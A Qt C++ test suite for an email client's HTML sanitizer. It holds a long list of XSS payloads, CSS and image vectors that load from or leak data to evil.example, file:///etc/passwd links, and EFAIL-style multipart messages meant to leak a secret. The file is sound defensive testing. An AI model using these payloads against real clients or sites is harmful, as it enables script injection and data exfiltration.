#include "HtmlJudge.h"
#include "MessageFixture.h"
#include "message/HtmlCleaner.h"
#include "message/MessageReader.h"

#include <QRegularExpression>
#include <QTest>

using namespace postaci;
using namespace postaci::test;

namespace {

/// What the attacks would do if they came through.
const char* const kVectors[] = {
    // script in all its places
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script/src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>/*</script><script>*/alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script\n>alert(1)</script\n>",
    "<script>alert(1)",
    "</title><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea></textarea><script>alert(1)</script>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)",
    "<template><script>alert(1)</script></template>",
    // handlers
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"alert(1)\" alt=\">\">",
    "<img/src='x'/onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<body onload=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<div onmouseover='alert(1)'>x</div>",
    "<p ONCLICK=alert(1)>x",
    "<p style=color:red;onclick=alert(1)>x",
    "<details open ontoggle=alert(1)>",
    "<video src=https://evil.example/v onerror=alert(1)></video>",
    "<audio autoplay src=https://evil.example/a onloadstart=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<table onmouseover=alert(1)><tr><td>x",
    "<a onclick=alert(1) href=#>x</a>",
    "<img src='x' on\x01\x65rror=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    // addresses
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href='blob:https://x/y'>x</a>",
    "<a href='view-source:https://evil.example'>x</a>",
    "<a href='qrc:/x'>x</a>",
    "<a xlink:href='javascript:alert(1)'>x</a>",
    "<img src=javascript:alert(1)>",
    "<img src='jav&#x0A;ascript:alert(1)'>",
    "<img lowsrc='https://evil.example/l' dynsrc='https://evil.example/d'>",
    "<img srcset='https://evil.example/s 1x, //evil.example/t 2x'>",
    "<picture><source srcset=https://evil.example/p><img src=x></picture>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img src='file:///etc/passwd'>",
    "<img src='\\\\evil.example\\share\\x.png'>",
    "<img src='https:\\\\evil.example/x'>",
    "<img src=' https://evil.example/x '>",
    "<img src='ht\ntps://evil.example/x'>",
    "<img src=HTTPS://EVIL.example/x>",
    "<img src='ftp://evil.example/x'>",
    "<q cite='https://evil.example/c'>x</q>",
    "<del cite='https://evil.example/c'>x</del>",
    "<table background='https://evil.example/b'><tr><td background=//evil.example/c>x",
    "<img usemap='#m' longdesc='https://evil.example/l'><map name=m><area href=javascript:alert(1)></map>",
    // documents in the document
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/o type=text/html></object>",
    "<embed src=https://evil.example/e>",
    "<applet code=x archive=https://evil.example/a></applet>",
    "<frameset><frame src=https://evil.example></frameset>",
    "<portal src=https://evil.example></portal>",
    "<base href='https://evil.example/'><a href='x'>x</a>",
    "<link rel=stylesheet href=https://evil.example/s.css>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<link rel=preconnect href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<meta http-equiv=x-dns-prefetch-control content=on>",
    "<meta http-equiv=set-cookie content=a=b>",
    "<form action=https://evil.example><input name=a></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<keygen autofocus onfocus=alert(1)>",
    // other languages
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><image href=https://evil.example/i></svg>",
    "<svg><use href='https://evil.example/u#x'/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<?xml-stylesheet href=https://evil.example/s?>",
    "<!DOCTYPE html SYSTEM 'https://evil.example/d'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><script>alert(1)</script>-->",
    "<!--!><script>alert(1)</script><!-- -->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![if IE]><script>alert(1)</script><![endif]>",
    // style
    "<style>@import 'https://evil.example/s.css';</style>",
    "<style>@import url(//evil.example/s);</style>",
    "<style>@\\69mport url(https://evil.example/s);</style>",
    "<style>p{background:url(https://evil.example/b)}</style><p>x",
    "<style>p{background:u\\72l(https://evil.example/b)}</style>",
    "<style>p{background:url(\"https://evil.example/b\"}</style>",
    "<style>p{background-image:image-set('https://evil.example/b' 1x)}</style>",
    "<style>p{background:-webkit-image-set(url(https://evil.example/b) 1x)}</style>",
    "<style>p{background:cross-fade(url(https://evil.example/b),url(x),50%)}</style>",
    "<style>@font-face{font-family:x;src:url(https://evil.example/f)}</style>",
    "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
    "<style>p{behavior:url(https://evil.example/x.htc)}</style>",
    "<style>p{-moz-binding:url(https://evil.example/x.xml#x)}</style>",
    "<style>p{width:expression(alert(1))}</style>",
    "<style>p{list-style-image:url(https://evil.example/l)}</style>",
    "<style>p{cursor:url(https://evil.example/c),auto}</style>",
    "<style>p{content:url(https://evil.example/c)}</style>",
    "<style>p{border-image:url(https://evil.example/c)}</style>",
    "<style>p{mask:url(https://evil.example/c);filter:url(https://evil.example/f)}</style>",
    "<style>p{shape-outside:url(https://evil.example/c)}</style>",
    "<style>:root{--u:url(https://evil.example/v)}p{background:var(--u)}</style>",
    "<style>p{background:url(javascript:alert(1))}</style>",
    "<style></style><script>alert(1)</script></style>",
    "<style><!--</style><script>alert(1)</script>--></style>",
    "<style>p{font-family:'</style><script>alert(1)</script>'}</style>",
    "<style>p{font-family:\"\\3c/style>\\3cscript>alert(1)\\3c/script>\"}</style>",
    "<style>.a\\3c\\2fstyle\\3e\\3cscript\\3e{margin:0}</style>",
    "<style>@media \\3c/style\\3e{p{margin:0}}</style>",
    "<style>@media screen{</style><script>alert(1)</script>",
    "<style>@namespace 'https://evil.example/n';</style>",
    "<style>@charset 'x';@page{background:url(https://evil.example/p)}</style>",
    "<style>@supports (x:url(https://evil.example/p)){p{margin:0}}</style>",
    "<p style='background:url(https://evil.example/b)'>x",
    "<p style='background:url(&quot;https://evil.example/b&quot;)'>x",
    "<p style='background:u/**/rl(https://evil.example/b)'>x",
    "<p style=\"background:\\75\\72\\6c(https://evil.example/b)\">x",
    "<p style=\"font-family:'&quot; onclick=alert(1) x=&quot;'\">x",
    "<p style='x:expression(alert(1))'>x",
    "<p style='color:red;position:fixed;top:0;left:0;width:100%;height:100%'>x",
    "<div style=\"margin:0} p{position:fixed\">x",
    "<p class='x\" onclick=\"alert(1)'>x",
    "<p id='x><script>alert(1)</script>'>x",
    "<p title='\"><script>alert(1)</script>'>x",
    "<p title='x' title='\" onclick=alert(1)'>x",
    "<p lang='\" onclick=alert(1) '>x",
    "<font face='\"><script>alert(1)</script>'>x",
    "<font color='\"><script>alert(1)</script>'>x",
    "<img alt='\"><script>alert(1)</script>' src=cid:x>",
    "<img src='cid:x\" onerror=alert(1) y=\"'>",
    "<img src=\"cid:'><script>alert(1)</script>\">",
    "<p style=\"background:url(cid:x');position:fixed;y:url('z)\">x",
    "<a href='https://x.example/\" onclick=\"alert(1)'>x</a>",
    "<a href=\"https://x.example/'><script>alert(1)</script>\">x</a>",
    "<p/onclick=alert(1)>x",
    "<p<p onclick=alert(1)>x",
    "<a<!-- --> onclick=alert(1)>x",
    "<\x00script>alert(1)</script>",
    "<p \xc2\xa0onclick=alert(1)>x",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
};

} // namespace

class TestHtmlAttacks : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void nothingComesThrough_data()
    {
        QTest::addColumn<QString>("html");
        int number = 0;
        for (const char* vector : kVectors)
            QTest::addRow("%d %s", ++number, qPrintable(text(vector).left(60))) << text(vector);
        QVERIFY(number >= 60);
    }

    void nothingComesThrough()
    {
        QFETCH(const QString, html);
        // Alone, in the middle of other text, in an attribute that was left open, and in a table cell.
        const QStringList places = {html,
                                    text("<p>before ") + html + text(" after</p>"),
                                    text("<p title=\"") + html,
                                    text("<table><tr><td>") + html + text("</td></tr></table>"),
                                    text("<style>a{") + html,
                                    text("<b><i>") + html + text("</b>") + html};
        for (const QString& place : places) {
            for (const bool dark : {false, true}) {
                HtmlTheme theme;
                theme.dark = dark;
                const CleanHtml clean = cleanHtml(place, RemoteContent::Blocked, theme);
                const HtmlJudge judge(clean.document.toUtf8());
                QVERIFY2(judge.verdict().isEmpty(),
                         qPrintable(judge.verdict() + text("\n") + clean.document));
            }
        }
    }

    void theJudgeFindsWhatIsWrong()
    {
        // Without this, a judge that sees nothing would pass every attack.
        int found = 0;
        for (const char* vector : kVectors)
            found += HtmlJudge(QByteArray(vector)).verdict().isEmpty() ? 0 : 1;
        QVERIFY2(found >= 110, qPrintable(QString::number(found)));
    }

    void cleaningAgainFindsNothingNew()
    {
        // A second parse must not see other elements than the first (mutation).
        for (const char* vector : kVectors) {
            const CleanHtml once = cleanHtml(text(vector), RemoteContent::Blocked, {});
            const CleanHtml twice = cleanHtml(once.document, RemoteContent::Allowed, {});
            QCOMPARE(twice.blockedRemote, 0);
            QVERIFY2(twice.remoteHosts.isEmpty(), qPrintable(once.document));
        }
    }

    /// EFAIL: one part opens an address, the next one is a secret, the last one closes it.
    void noPartBecomesTheAddressInAnother_data()
    {
        QTest::addColumn<QByteArray>("opening");
        for (const char* opening :
             {"<img src=\"https://evil.example/", "<img src='https://evil.example/",
              "<img src=https://evil.example/", "<a href=\"https://evil.example/",
              "<img src=\"https://evil.example/\" alt=", "<!-- ",
              "<style>p{background:url(https://evil.example/", "<style>@import 'https://evil.example/",
              "<textarea name=x>", "<title>", "<xmp>", "<iframe srcdoc=\"", "<select><option>",
              "<svg><style>", "<math><![CDATA[", "<form action=https://evil.example><input value='"})
            QTest::newRow(opening) << QByteArray(opening);
    }

    void noPartBecomesTheAddressInAnother()
    {
        QFETCH(const QByteArray, opening);
        const QByteArray raw =
            "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: "
            "text/html\r\n\r\n<p>a</p>" +
            opening +
            "\r\n--b\r\nContent-Type: text/plain\r\n\r\ngizli\r\n--b\r\nContent-Type: text/html\r\n\r\n" +
            "\"'>--></style></textarea><p>z</p>\r\n--b--\r\n";
        const MessageContent content = readMessage(raw);
        for (const RemoteContent remote : {RemoteContent::Blocked, RemoteContent::Allowed}) {
            const QString document = cleanHtml(content.html, remote, {}).document;
            QVERIFY2(!document.contains(QRegularExpression(text("<[^>]*gizli"))), qPrintable(document));
            QVERIFY2(!document.contains(QRegularExpression(text("url\\([^)]*gizli"))), qPrintable(document));
            QVERIFY2(htmlToText(document).contains(text("gizli")), qPrintable(document));
            QVERIFY2(htmlToText(document).contains(text("z")), qPrintable(document));
        }
        // What is written in one part is seen as it was without the end that is put behind it.
        QVERIFY(!htmlToText(content.html).contains(text("]]")));
    }

    void remoteImagesWhenAllowedAreOnlyWebAddresses()
    {
        for (const char* vector : kVectors) {
            const QString document = cleanHtml(text(vector), RemoteContent::Allowed, {}).document;
            QVERIFY(!document.contains(text("javascript:"), Qt::CaseInsensitive) ||
                    !document.contains(text("=\"javascript")));
            static const QRegularExpression source(text("src=\"(?!cid:|data:image/|https?://)"));
            QVERIFY2(!source.match(document).hasMatch(), qPrintable(document));
        }
    }
};

QTEST_GUILESS_MAIN(TestHtmlAttacks)
#include "tst_htmlattacks.moc"
